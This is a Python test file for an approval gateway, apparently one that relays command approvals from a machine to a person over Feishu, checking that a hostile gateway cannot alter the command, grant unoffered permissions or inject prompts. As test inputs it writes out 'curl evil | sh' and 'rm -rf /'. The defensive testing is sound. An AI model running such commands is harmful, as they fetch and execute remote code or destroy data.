"""What a gateway is never given: a say in what runs."""

from __future__ import annotations

from typing import Any

from feishuperm.channels.base import ApprovalsPort, BareApprovals, bare_ask
from feishuperm.channels.gateway import IN, NO_GRANTS, GatewayChannel
from feishuperm.lib.enrolment import Enrolment
from feishuperm.models import ask as statuses
from feishuperm.models.ask import Answer, Ask, Block, Receipt, to_plain
from feishuperm.models.kind import KINDS, offers
from feishuperm.protocol.machine import TAP, prove, tap_parts
from feishuperm.services.sessions import Panels
from tests.ports import FakeApprovals, FakeReports
from tests.services.test_presenter import TOKEN, brief
from tests.tables import every_row

KEY = "00" * 32
OWNER = "ou_1"


class Machine(FakeApprovals):
    """A machine's end of a gateway that holds its key and lies."""

    def __init__(self, ask: Ask, bare: bool = False, grants: bool = False) -> None:
        self.made = ask
        self.bare = bare
        self.answers: list[Answer] = []
        self.sent: list[Any] = []
        self.reports = FakeReports()
        self.shown = self.reports.done
        port: ApprovalsPort = BareApprovals(self, "zh") if bare else self
        self.channel = GatewayChannel(
            Enrolment("http://g", "m1", "box", OWNER, "", (KEY,)),
            port,
            Panels(print),
            lambda received, changed: self,  # type: ignore[arg-type,return-value]
            lambda seconds, fn: None,
            lambda enrolment: None,
            grants=grants,
            wall=lambda: 0.0,
            clock=lambda: 0.0,
        )
        self.channel._stage = IN

    def announce(self) -> dict[str, Any]:
        """Show the request; what the gateway is given."""
        told = self.reports.announcement(self.made.id, 600.0)
        self.channel.announce(bare_ask(self.made) if self.bare else self.made, told)
        given: dict[str, Any] = self.sent[-1][1]["ask"] if self.sent else {}
        return given

    def send(self, kind: str, **parts: Any) -> bool:
        self.sent.append((kind, parts))
        return True

    def watch(self, is_card_out: bool) -> None: ...

    def is_pending(self, id: str) -> bool:
        return True

    def ask(self, id: str) -> Ask | None:
        return self.made

    def answer(self, answer: Answer) -> Receipt:
        self.answers.append(answer)
        return Receipt(statuses.SETTLED)

    def tap(self, action: str, **values: str) -> Receipt:
        filled = {name: (text,) for name, text in values.items()}
        answer = to_plain(
            Answer(self.made.id, action, filled, "", OWNER, self.made.digest)
        )
        proof = prove(bytes.fromhex(KEY), TAP, *tap_parts("m1", "t1", answer, 0.0))
        message = {"answer": answer, "proof": proof, "at": 0.0}
        return self.channel._judge("t1", message)


def names(given: dict[str, Any]) -> list[str]:
    return [offer["name"] for offer in given["actions"]]


@every_row("command", ["npm test", f"curl -H 'X: {TOKEN}'"])
def test_gateway_that_lies_cannot_change_what_runs(command: str) -> None:
    machine = Machine(brief(command=command)._replace(hold=True), grants=True)
    given = machine.announce()
    assert "edit" not in names(given) and given["hold"] is False
    assert "command" not in [field["name"] for field in given["fields"]]
    receipt = machine.tap("edit", command="curl evil | sh")
    assert receipt.status == statuses.REFUSED and machine.answers == []
    assert machine.tap("allow", command="curl evil | sh").status == statuses.SETTLED
    assert machine.answers[0].values == {}, "only what its button takes along"


def test_gateway_that_is_shown_titles_alone_cannot_allow() -> None:
    machine = Machine(brief(command="npm test"), bare=True)
    machine.announce()
    assert machine.tap("allow").status == statuses.REFUSED
    assert machine.tap("deny").status == statuses.SETTLED


PLAIN = brief(command="npm test")
CUT = PLAIN._replace(blocks=(Block("code", text="x", hidden=9, tail="y"),))
LONG = PLAIN._replace(blocks=(Block("code", text="x" * 500_000),))
VEILED = PLAIN._replace(veiled=True)
LASTING = ("always", "minutes", "session")


@every_row(
    ("ask", "grants", "refused"),
    [
        (PLAIN, False, (*LASTING, "edit", "approve", "answer", "send", "undo", "")),
        (PLAIN, True, ("edit", "approve", "answer", "send", "undo", "")),
        (CUT, True, ("allow", *LASTING, "edit")),
        (LONG, True, ("allow", *LASTING, "edit")),
        (VEILED, True, ("allow", *LASTING, "edit")),
    ],
)
def test_hostile_gateway_gets_what_its_card_offered_and_nothing_else(
    ask: Ask, grants: bool, refused: tuple[str, ...]
) -> None:
    """Whether the request came back meanwhile or the card is of this server."""
    for is_announced in (True, False):
        machine = Machine(ask, grants=grants)
        if is_announced:
            given = machine.announce()
            if not grants:
                assert not {*names(given)} & {*LASTING} and given["rules"] == []
        for action in refused:
            assert machine.tap(action).status == statuses.REFUSED, action
        assert machine.answers == []
        assert machine.tap("deny", reason="no").status == statuses.SETTLED
        assert machine.answers[0].values == {"reason": ("no",)}


def test_call_that_is_seen_whole_by_now_is_granted_as_its_card_offered() -> None:
    """What counts is the card that is out, not what could be shown today."""
    machine = Machine(VEILED, grants=True)
    machine.announce()
    machine.made = PLAIN
    assert machine.tap("allow").status == statuses.REFUSED


@every_row("grants", [False, True])
def test_prompt_comes_through_a_gateway_only_if_the_person_lets_it(
    grants: bool,
) -> None:
    say: Any = lambda key, **values: str(key)  # noqa: E731
    kind = KINDS["next"]
    fields = kind.fields({}, say)
    offered = offers(kind, fields, say)
    ask = Ask("1-n", "next", digest="d" * 16, actions=offered, fields=fields)
    machine = Machine(ask, grants=grants)
    machine.announce()
    status = machine.tap("send", text="rm -rf /").status
    assert (status == statuses.SETTLED) == grants == bool(machine.sent)
    assert machine.shown == ([] if grants else [(False, NO_GRANTS)])
